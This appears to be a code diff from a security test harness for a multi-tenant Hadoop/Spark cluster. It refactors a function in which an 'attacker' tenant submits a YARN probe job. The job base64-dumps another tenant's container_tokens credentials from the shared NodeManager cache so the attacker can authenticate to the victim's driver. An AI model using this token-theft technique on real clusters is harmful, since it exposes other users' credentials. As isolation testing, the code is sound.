@@ -3,12 +3,10 @@
 import { createHash } from "node:crypto";
 import { GATEWAY_NODE, NM_LOCAL_DIR, NM_LOG_DIR } from "../cluster/cluster-config.ts";
 import { queueFor } from "../cluster/topology.ts";
-import type { StepEvidence } from "../scenario/scenario-evidence.ts";
 import { SPARK_SECRET_ALIAS } from "../wire/yarn-secret-scan.ts";
 import type { StartedCluster } from "../cluster/started-cluster.ts";
 import { JOBS_JAR } from "../images/hadoop-spark-image.ts";
-import { ROGUE_TARGET_DRIVER_PORT } from "../scenario/workloads.ts";
-import type { RogueOutcome } from "./rogue-rpc-client.ts";
+import { ROGUE_TARGET_DRIVER_PORT, type RogueOutcome } from "./rogue-rpc-client.ts";
 
 export async function secretHolderRpc(cluster: StartedCluster, actor: string, secretFile: string): Promise<RogueOutcome> {
   const host = cluster.node(GATEWAY_NODE).host;
@@ -33,10 +31,9 @@ export async function secretHolderRpc(cluster: StartedCluster, actor: string, se
  * YARN container reads the victim AM's container_tokens (Hadoop credentials) on the shared NodeManager. Then the
  * attacker's process authenticates to the victim's driver with it. Only the secret's sha256 is ever recorded.
  */
-export async function stolenSecretRpc(cluster: StartedCluster, target: StepEvidence, attacker: string): Promise<RogueOutcome> {
-  const victim = target.step.kind === "spark-submit" ? target.step.tenant : "";
+export async function stolenSecretRpc(cluster: StartedCluster, target: { owner: string; appId: string }, attacker: string): Promise<RogueOutcome> {
+  const victim = target.owner;
   const appId = target.appId;
-  if (!appId || !victim) throw new Error("the target app is not known");
   const node = cluster.nodeManagers[0]!.name;
   const tokens = `${NM_LOCAL_DIR}/usercache/${victim}/appcache/${appId}/container_*_000001/container_tokens`;
   const probe = await cluster.rm.as(attacker).submitProbe(queueFor(cluster.topology, attacker), `{ base64 -w0 ${tokens}; } 1><LOG_DIR>/stdout 2><LOG_DIR>/stderr`, "steal-tokens");
